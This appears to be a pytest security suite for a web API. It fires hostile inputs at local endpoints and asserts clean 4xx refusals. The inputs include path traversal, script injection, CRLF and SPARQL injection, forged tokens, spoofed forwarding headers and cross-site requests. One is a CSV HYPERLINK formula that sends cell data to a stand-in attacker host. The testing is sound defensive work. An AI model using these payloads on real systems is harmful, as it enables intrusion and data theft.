"""Hostile and malformed requests over HTTP on 127.0.0.1: each gets a clear one-line 4xx, never a 500 or a
traceback, and leaves every stored byte as it was (the ``unchanged`` fixture)."""

from __future__ import annotations

import json

import pytest

from api.routers.glossary import MAX_TEXT
from tests.security.conftest import ACTOR, ADMIN_TOKEN

HOSTILE_IDS = {
    "traversal": "..%2F..%2Fetc%2Fpasswd", "nul": "%00", "long": "a" * 5000, "accents": "%C3%A9t%C3%A9",
    "bidi": "%E2%80%AEevil", "markup": "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "crlf": "a%0d%0aSet-Cookie:x=1",
    "sparql": "x%3E%20%7D%20SELECT%20*%20%7B", "quote": "a%22%27b",
}
ID_ROUTES = [
    "/api/v1/actors/{}", "/acteurs/{}", "/termes/{}", "/cartes/acteurs/{}", "/cartes/acteurs/{}/export.html",
    "/id/actors/{}", "/id/{}/x", "/api/v1/service-types/{}", "/api/v1/sectors/{}", "/api/v1/territories/{}",
    "/api/v1/functions/{}", "/api/v1/agreements/{}", "/api/v1/exports/tables/{}.csv", "/static/{}",
]


def _one_line_error(response, status: int | tuple) -> None:
    statuses = status if isinstance(status, tuple) else (status,)
    assert response.status_code in statuses, (response.status_code, response.text[:300])
    assert "Traceback" not in response.text and "internal error" not in response.text
    if response.headers.get("content-type", "").startswith("application/json"):
        detail = response.json()["detail"]
        assert isinstance(detail, str) and "\n" not in detail and 0 < len(detail) <= 300


@pytest.mark.parametrize("route", ID_ROUTES)
@pytest.mark.parametrize("kind", list(HOSTILE_IDS))
def test_hostile_ids_in_path_parameters(anon, unchanged, route, kind):
    response = anon.get(route.format(HOSTILE_IDS[kind]))
    _one_line_error(response, (400, 404))
    assert "set-cookie" not in response.headers
    assert "<script>alert(1)</script>" not in response.text


@pytest.mark.parametrize("route", ["/api/v1/edit/{}/x", "/api/v1/edit/actors/{}", "/editer/actors/{}",
                                   "/api/v1/actors/{}/contacts/c-1", "/api/v1/actors/{}/contacts"])
@pytest.mark.parametrize("kind", ["traversal", "nul", "long", "bidi", "crlf"])
def test_hostile_ids_in_editor_routes(workspace, unchanged, route, kind):
    with workspace.client(workspace.editor) as client:
        get = client.get(route.format(HOSTILE_IDS[kind]))
        delete = client.delete(route.format(HOSTILE_IDS[kind]))
    _one_line_error(get, (400, 404, 405))
    _one_line_error(delete, (400, 404, 405))


@pytest.mark.parametrize(("query", "status", "message"), [
    ("/api/v1/actors?limit=-1", 422, "limit"), ("/api/v1/actors?limit=99999999", 422, "less than or equal to 1000"),
    ("/api/v1/actors?offset=abc", 422, "valid integer"), ("/api/v1/actors?q=" + "a" * 1000, 422, "at most 200"),
    ("/api/v1/actors?age=NaN", 422, "age"), ("/api/v1/actors?age=1e309", 422, "age"),
    ("/api/v1/actors?format=xml", 400, "unknown format"), ("/api/v1/actors?sector=%00", 400, "invalid sector"),
    ("/api/v1/actors?lang=xx", 422, "lang"), ("/api/v1/glossary/lookup?q=", 422, "at least 1 character"),
    ("/api/v1/glossary/lookup?q=" + "x" * 5000, 422, "at most 200"),
    ("/chercher?q=" + "x" * 5000, 422, "at most 200"),
    ("/cartes/acteurs/amo-passages?profondeur=99", 422, "profondeur"),
    ("/api/v1/exports/rdf?format=..%2F..%2Fx", 400, "unknown format"),
    ("/api/v1/exports/network?format=%00", 400, "unknown format"), ("/sparql?query=", 400, "empty query"),
    ("/api/v1/edit/history?limit=0", 401, "authentification requise"),
])
def test_query_string_abuse(anon, unchanged, query, status, message):
    response = anon.get(query)
    _one_line_error(response, status)
    assert message in response.json()["detail"]


def test_many_repeated_parameters_are_harmless(anon, unchanged):
    response = anon.get("/api/v1/actors?" + "&".join(f"sector=s{i}" for i in range(2000)))
    assert response.status_code in (200, 400, 414, 431)
    assert "Traceback" not in response.text


def test_oversized_declared_body_is_refused(anon, unchanged):
    response = anon.post("/api/v1/glossary/decode", content=b"x" * (3 * 1024 * 1024),
                         headers={"Content-Type": "application/json"})
    _one_line_error(response, 413)
    assert "larger than" in response.json()["detail"]


def test_oversized_streamed_body_is_refused(anon, unchanged):
    def chunks():
        for _ in range(40):
            yield b"x" * 65536

    response = anon.post("/api/v1/glossary/decode", content=chunks(), headers={"Content-Type": "application/json"})
    # api.http.limits answers 413 as soon as the count passes the limit; the app sees a disconnected client
    _one_line_error(response, 413)


def test_text_over_the_decoder_limit(anon, unchanged):
    response = anon.post("/api/v1/glossary/decode", json={"text": "AMO " * (MAX_TEXT // 2)})
    _one_line_error(response, (413, 422))


@pytest.mark.parametrize(("body", "status"), [
    (b"{not json", 422), (b"", 422), (b"[]", 422), (b'{"text": 12}', 422), (b'{"text": null}', 422),
    (b"[" * 5000 + b"]" * 5000, 400), (b'{"text": "\xff\xfe"}', 400), (b'{"text": "ok", "country": "' + b"x" * 100
                                                                       + b'"}', 422),
])
def test_malformed_json_bodies(anon, unchanged, body, status):
    response = anon.post("/api/v1/glossary/decode", content=body, headers={"Content-Type": "application/json"})
    _one_line_error(response, status)


def _row(workspace) -> tuple[str, dict]:
    with workspace.client(workspace.editor) as client:
        response = client.get(f"/api/v1/edit/actors/{ACTOR}")
    assert response.status_code == 200 and response.headers["cache-control"] == "private, no-store"
    return response.headers["etag"], response.json()["values"]


def _patch(workspace, token: str | None, etag: str | None, body, **headers):
    if etag:
        headers["If-Match"] = etag
    with workspace.client(token) as client:
        return client.patch(f"/api/v1/edit/actors/{ACTOR}", content=json.dumps(body).encode(),
                            headers={"Content-Type": "application/json", **headers})


CHANGE = {"changes": {"description": "modifié par une attaque"}, "reason": "attaque"}


def test_edit_without_token(workspace, unchanged):
    etag, _ = _row(workspace)
    response = _patch(workspace, None, etag, CHANGE)
    _one_line_error(response, 401)
    assert response.json()["detail"] == "authentification requise"


def test_edit_with_reader_token(workspace, unchanged):
    etag, _ = _row(workspace)
    response = _patch(workspace, workspace.reader, etag, CHANGE)
    _one_line_error(response, 403)
    assert response.json()["detail"] == "rôle « editor » requis"


def test_bearer_edit_from_another_site(workspace, unchanged):
    etag, _ = _row(workspace)
    response = _patch(workspace, workspace.editor, etag, CHANGE, Origin="https://evil.example")
    _one_line_error(response, 403)
    assert "autre site" in response.json()["detail"]


def test_edit_with_forged_and_revoked_looking_tokens(workspace, unchanged):
    etag, _ = _row(workspace)
    forged = workspace.editor[:-4] + "AAAA"
    for token in (forged, ADMIN_TOKEN[:-1], "pm_" + "0" * 12 + ".x"):
        _one_line_error(_patch(workspace, token, etag, CHANGE), 401)


def test_edit_with_stale_if_match(workspace, unchanged):
    response = _patch(workspace, workspace.editor, '"0123456789abcdef0000"', CHANGE)
    _one_line_error(response, 412)
    assert "changed by someone else" in response.json()["detail"]


def test_edit_without_if_match(workspace, unchanged):
    response = _patch(workspace, workspace.editor, None, CHANGE)
    _one_line_error(response, 428)
    assert "If-Match header required" in response.json()["detail"]


@pytest.mark.parametrize(("body", "status", "message"), [
    ({"changes": {"sector": "no-such-sector"}, "reason": "x"}, 422, "does not validate"),
    ({"changes": {"password": "x"}, "reason": "x"}, 400, "unknown column"),
    ({"changes": {"id": "renamed"}, "reason": "x"}, 400, "never renamed"),
    ({"changes": {"description": "x"}, "reason": ""}, 400, "say why"),
    ({"changes": {"description": "x" * 6000}, "reason": "x"}, 400, "longer than 5000"),
    ({"changes": {"description": {"$ne": 1}}, "reason": "x"}, 400, "expected text"),
    ({"changes": "DROP TABLE", "reason": "x"}, 400, "expected"),
])
def test_edit_with_bad_values(workspace, unchanged, body, status, message):
    etag, _ = _row(workspace)
    response = _patch(workspace, workspace.editor, etag, body)
    _one_line_error(response, status)
    assert message in response.json()["detail"]


def test_edit_with_malformed_json(workspace, unchanged):
    etag, _ = _row(workspace)
    with workspace.client(workspace.editor) as client:
        response = client.patch(f"/api/v1/edit/actors/{ACTOR}", content=b'{"changes": ',
                                headers={"If-Match": etag, "Content-Type": "application/json"})
    _one_line_error(response, 400)
    assert response.json()["detail"] == "the body is not valid JSON"


def _session(workspace, local: str) -> dict:
    with workspace.server.client(local_address=local) as client:
        response = client.post("/connexion", data={"jeton": workspace.editor, "suite": "/"})
    assert response.status_code == 303
    return {"pm_session": response.cookies["pm_session"]}


def test_editor_screen_write_from_another_site(workspace, unchanged):
    cookies = _session(workspace, "127.0.0.7")
    with workspace.server.client(local_address="127.0.0.7", cookies=cookies) as client:
        response = client.post(f"/editer/actors/{ACTOR}", data={"description": "csrf", "reason": "csrf",
                                                                 "csrf": "x"},
                               headers={"Origin": "https://evil.example"})
        no_token = client.post(f"/editer/actors/{ACTOR}", data={"description": "csrf", "reason": "csrf"})
    assert response.status_code == no_token.status_code == 403
    assert "autre site" in response.text and "CSRF" in no_token.text


def test_create_with_hostile_id(workspace, unchanged):
    with workspace.client(workspace.editor) as client:
        response = client.post("/api/v1/edit/actors", json={"changes": {"id": "../../etc/passwd"}, "reason": "x"})
        taken = client.post("/api/v1/edit/actors", json={"changes": {"id": ACTOR}, "reason": "x"})
        table = client.post("/api/v1/edit/..%2Fsecrets", json={"changes": {"id": "x"}, "reason": "x"})
    _one_line_error(response, 400)
    assert "not a valid id" in response.json()["detail"]
    _one_line_error(taken, 412)
    assert "already used" in taken.json()["detail"]
    _one_line_error(table, (404, 405))


def test_forged_forwarded_for_does_not_dodge_the_login_throttle(workspace, unchanged):
    with workspace.server.client(local_address="127.0.0.3") as client:
        statuses = [client.post("/connexion", data={"jeton": f"pm_bad{i}.x", "suite": "/"},
                                headers={"X-Forwarded-For": f"10.0.{i}.1", "X-Real-IP": f"10.1.{i}.1",
                                         "Forwarded": f"for=10.2.{i}.1"}).status_code for i in range(14)]
    assert statuses[:10] == [401] * 10
    assert set(statuses[10:]) == {429}
    with workspace.server.client(local_address="127.0.0.4") as other:
        assert other.post("/connexion", data={"jeton": "pm_bad.x", "suite": "/"}).status_code == 401


def test_open_redirect_after_login_is_refused(workspace, unchanged):
    with workspace.server.client(local_address="127.0.0.5") as client:
        response = client.post("/connexion", data={"jeton": workspace.reader, "suite": "https://evil.example/x"})
    assert response.status_code == 303
    assert not response.headers["location"].startswith(("http", "//"))


def test_csv_formula_cells_are_neutralised(workspace):
    etag, _ = _row(workspace)
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'
    response = _patch(workspace, workspace.editor, etag,
                      {"changes": {"description": formula}, "reason": "test des formules CSV"})
    assert response.status_code == 200, response.text
    with workspace.client() as client:
        table = client.get("/api/v1/exports/tables/actors.csv").text
        search = client.get("/api/v1/actors", params={"format": "csv", "limit": 1000}).text
    assert "'=HYPERLINK" in table and "\n=HYPERLINK" not in table and ",=HYPERLINK" not in table
    assert ",=" not in search and ",+" not in search and ",@" not in search


def test_json_api_write_with_a_session_cookie_from_another_site(workspace, unchanged):
    """A cross-site form can POST text/plain with a session cookie (if SameSite were lost): the JSON API refuses."""
    cookies = _session(workspace, "127.0.0.8")
    body = json.dumps({"changes": {"id": "csrf-actor", "label": "x"}, "reason": "csrf"})
    with workspace.server.client(local_address="127.0.0.8", cookies=cookies) as client:
        response = client.post("/api/v1/edit/actors", content=body.encode(),
                               headers={"Content-Type": "text/plain", "Origin": "https://evil.example"})
        contact = client.post(f"/api/v1/actors/{ACTOR}/contacts", content=b'{"name": "x", "email": "x@example.org"}',
                              headers={"Content-Type": "application/json", "Origin": "https://evil.example"})
    assert contact.status_code == response.status_code == 403, response.text
    assert "autre site" in response.json()["detail"] and "autre site" in contact.json()["detail"]
    with workspace.server.client(local_address="127.0.0.8", cookies=cookies) as client:
        same_site = client.post("/api/v1/edit/actors", content=body.encode(), headers={"Content-Type": "text/plain"})
    assert same_site.status_code == 403 and "CSRF" in same_site.json()["detail"]
